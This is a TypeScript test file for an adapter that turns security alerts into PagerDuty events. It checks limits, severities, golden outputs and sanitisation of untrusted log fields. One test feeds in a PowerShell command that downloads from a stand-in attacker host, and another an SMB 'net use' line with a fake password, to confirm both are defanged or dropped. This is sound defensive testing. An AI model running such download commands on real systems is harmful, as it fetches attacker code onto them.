// What PagerDuty is told of an alert: to its interface's letter, within its limits, harmless whatever the log says.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import {
  MAX_DEDUP_KEY,
  MAX_EVENT_BYTES,
  MAX_SUMMARY,
  pagerDutyBody,
  toPagerDutyEvent,
} from '../../src/alert/index.ts';
import { type Alert, type Finding, LEVELS } from '../../src/model/index.ts';
import { anAlert, anAlertRule, hostileAlert, shippedAlert, shippedRules } from './pager-alerts.ts';
import { aFanOut, aFinding } from './builders.ts';
import { runs } from '../support/runs.ts';

/** Characters that XML 1.0 forbids, and those that act on a terminal or hide. */
const UNSAFE = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\uFFFE\uFFFF]/u;
/** Bytes by which the adapter makes a body longer. */
const KEY_BYTES = `"routing_key":"${'k'.repeat(32)}",`.length;

function triggerOf(alert: Alert) {
  const event = toPagerDutyEvent(alert);
  assert.equal(event?.event_action, 'trigger');
  assert.ok(event.event_action === 'trigger');
  return event;
}

function bytesOf(alert: Alert): number {
  return Buffer.byteLength(pagerDutyBody(triggerOf(alert))) + KEY_BYTES;
}

/** Every text anywhere in a value. */
function textsOf(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.values(value).flatMap(textsOf);
}

const GOLDEN: readonly { readonly file: string; readonly alert: Alert }[] = [
  {
    file: 'untrusted-process.json',
    alert: shippedAlert('Detect Outbound SMB Connection', aFinding()),
  },
  {
    file: 'lolbin.json',
    alert: shippedAlert(
      'Detect LOLBins',
      aFinding({
        process: { image: 'C:\\Windows\\System32\\rundll32.exe', signatureStatus: 'Valid' },
      }),
    ),
  },
  { file: 'fan-out.json', alert: fanOutAlert() },
];

/** Opened by one rule, raised by a second of a higher level. */
function fanOutAlert(): Alert {
  const medium = anAlertRule(aFinding());
  const raised = { event: 'raised', revision: 1, route: 'page' } as const;
  const alert = shippedAlert('Detect SMB Fan-Out', aFanOut(), raised);
  return { ...alert, rules: [anAlertRule(alert.lead), medium] };
}

describe('a PagerDuty event', () => {
  it('links to the runbook and to the evidence, where there are any that are links', () => {
    const evidence = 's3://bucket/evidence/f1.json';
    const context = { region: 'eu-central-1', runbook: 'https://wiki.example.com/smb' };
    const linksOf = (alert: Alert, where = {}) => {
      const event = toPagerDutyEvent(alert, where);
      return event?.event_action === 'trigger' ? event.links : undefined;
    };
    const [runbook, found] = linksOf(anAlert({ evidence }), context) ?? [];
    assert.deepEqual(runbook, { href: context.runbook, text: 'Runbook' });
    assert.equal(found?.text, 'Evidence');
    assert.match(found?.href ?? '', /^https:\/\/eu-central-1\.console\.aws\.amazon\.com\/s3\//);
    assert.equal(linksOf(anAlert({ evidence })), undefined);
    assert.equal(linksOf(anAlert(), { runbook: 'https://wiki.example.com/"x' }), undefined);
  });

  for (const { file, alert } of GOLDEN) {
    it(`is for shipped rules what a person can read in ${file}`, () => {
      const golden = readFileSync(new URL(`pagerduty/${file}`, import.meta.url), 'utf8');
      assert.deepEqual(JSON.parse(pagerDutyBody(triggerOf(alert))), JSON.parse(golden));
    });
  }

  it('has all four parts of the guide of every shipped rule, whole', () => {
    const rules = shippedRules().filter(({ guide }) => guide !== undefined);
    assert.ok(rules.length >= 5);
    for (const { guide, title } of rules) {
      const { custom_details: details } = triggerOf(anAlert({ guide })).payload;
      const { triage, respond, harden, logging } = details;
      assert.deepEqual({ triage, respond, harden, logging }, guide, title);
    }
  });

  const SEVERITIES = ['info', 'info', 'warning', 'error', 'critical'];
  for (const [index, level] of LEVELS.entries()) {
    it(`calls ${level} ${SEVERITIES[index]}`, () => {
      assert.equal(triggerOf(anAlert({ level })).payload.severity, SEVERITIES[index]);
    });
  }

  it('opens and raises one incident by one key, and resolves it by the same', () => {
    const opened = toPagerDutyEvent(anAlert());
    const raised = toPagerDutyEvent(anAlert({ event: 'raised', revision: 1 }));
    const resolved = toPagerDutyEvent(anAlert({ event: 'resolved', revision: 2 }));
    assert.deepEqual([opened?.event_action, raised?.event_action], ['trigger', 'trigger']);
    assert.equal(opened?.dedup_key, anAlert().id);
    assert.equal(raised?.dedup_key, anAlert().id);
    assert.deepEqual(resolved, { event_action: 'resolve', dedup_key: anAlert().id });
  });

  it('is none for final counts: they would page again where the incident is resolved by now', () => {
    assert.equal(toPagerDutyEvent(anAlert({ event: 'closed', isActive: false })), undefined);
  });

  it('takes a key of 255 characters and refuses one more, or none', () => {
    assert.equal(toPagerDutyEvent(anAlert({ id: 'x'.repeat(255) }))?.dedup_key.length, 255);
    assert.throws(() => toPagerDutyEvent(anAlert({ id: 'x'.repeat(256) })), /256 characters/);
    assert.throws(() => toPagerDutyEvent(anAlert({ id: '' })), /0 characters/);
  });

  it('leaves out a time that PagerDuty would refuse', () => {
    for (const firstTime of ['yesterday', '2026-13-40T00:00:00Z', '2026-11-20', '']) {
      assert.equal(triggerOf(anAlert({ firstTime })).payload.timestamp, undefined);
    }
    assert.equal(triggerOf(anAlert()).payload.timestamp, '2026-11-20T12:00:00.000Z');
  });

  it('says how many other rules matched', () => {
    const one = anAlertRule(aFinding());
    const { summary } = triggerOf(anAlert({ rules: [one, one] })).payload;
    assert.match(summary, /^\[MEDIUM\] .+: scan\.exe on ws-17\.example\.com \(and 1 more rule\)$/);
  });

  it('says first that it is a test', () => {
    assert.match(triggerOf(anAlert({ origin: 'test' })).payload.summary, /^\[TEST\] /);
  });

  it('holds no secret of the finding', () => {
    const secret = `Hunter${'2!'}x`;
    const commandLine = `net use \\\\fs01\\c$ ${secret} /user:al`;
    const lead = aFinding({ process: { commandLine, parent: { commandLine } } });
    assert.ok(!pagerDutyBody(triggerOf(anAlert({ lead }))).includes(secret));
  });

  it('holds no link that a log wrote', () => {
    const link = 'powershell iwr HTTPS://evil.example/a; start www.evil.example tel:1';
    const lead = aFinding({
      host: link,
      user: link,
      process: {
        image: `C:\\${link}`,
        commandLine: link,
        signature: link,
        hashes: { [link]: link },
      },
    });
    const texts = textsOf(triggerOf(anAlert({ lead })));
    assert.deepEqual(
      texts.filter((text) => /:\/\/|www\.|tel:/i.test(text)),
      [anAlert().evidence],
    );
    assert.ok(
      texts.includes('powershell iwr HTTPS[:]//evil.example/a; start www[.]evil.example tel[:]1'),
    );
  });

  it('names a source also where a log writes a blank for its host', () => {
    const { payload } = triggerOf(anAlert({ lead: aFinding({ host: ' ' }) }));
    assert.equal(payload.source, 'an unnamed host');
  });

  it('keeps limits and letter, and shows no hostile character, whatever the alert', () => {
    fc.assert(
      fc.property(hostileAlert, (alert) => {
        const event = toPagerDutyEvent(alert);
        assert.deepEqual(toPagerDutyEvent(alert), event);
        if (event?.event_action !== 'trigger') return;
        assert.ok(bytesOf(alert) <= MAX_EVENT_BYTES);
        assert.ok(event.dedup_key.length <= MAX_DEDUP_KEY);
        const { payload } = event;
        assert.ok(payload.summary.length <= MAX_SUMMARY);
        for (const text of [payload.summary, payload.source, payload.class, payload.group]) {
          assert.notEqual(text.trim(), '');
        }
        for (const text of textsOf(event)) assert.ok(!UNSAFE.test(text));
      }),
      { numRuns: runs(40) },
    );
  });

  it('fits with every text and list at its limit, in characters of four bytes', () => {
    const event = anAlert({ ...hugeAlert('😀'.repeat(20_000)) });
    assert.ok(bytesOf(event) <= MAX_EVENT_BYTES);
    assert.ok(bytesOf(event) > 300_000);
  });

  it('stays small for a log that writes a megabyte into a field', () => {
    const commandLine = 'x'.repeat(1_000_000);
    const lead = aFinding({ process: { commandLine } });
    const { custom_details: details } = triggerOf(anAlert({ ...hugeAlert('x'), lead })).payload;
    assert.equal(details.command_line?.length, 8_192);
    assert.match(details.command_line ?? '', /^x+…x+$/);
    assert.equal(details.triage.length, 31);
    assert.equal(details.triage.at(-1), 'and 70 more');
  });
});

function hugeAlert(huge: string): Partial<Alert> {
  const many = Array.from({ length: 100 }, () => huge);
  const few = many.slice(0, 10);
  const process: Finding['process'] = {
    image: huge,
    commandLine: huge,
    hashes: Object.fromEntries(few.map((text, index) => [`${index}${text}`, text])),
    signature: huge,
    signatureStatus: huge,
    parent: { image: huge, commandLine: huge },
  };
  const lead = aFinding({
    host: huge,
    user: huge,
    process,
    destinations: few.map((ip) => ({ ip, port: 445, host: ip, firstTime: ip })),
  });
  return {
    lead,
    rules: many.map((title) => ({ ...anAlertRule(aFinding()), title, findingId: title })),
    guide: { triage: many, respond: many, harden: many, logging: many },
    falsepositives: many,
    evidence: huge,
  };
}
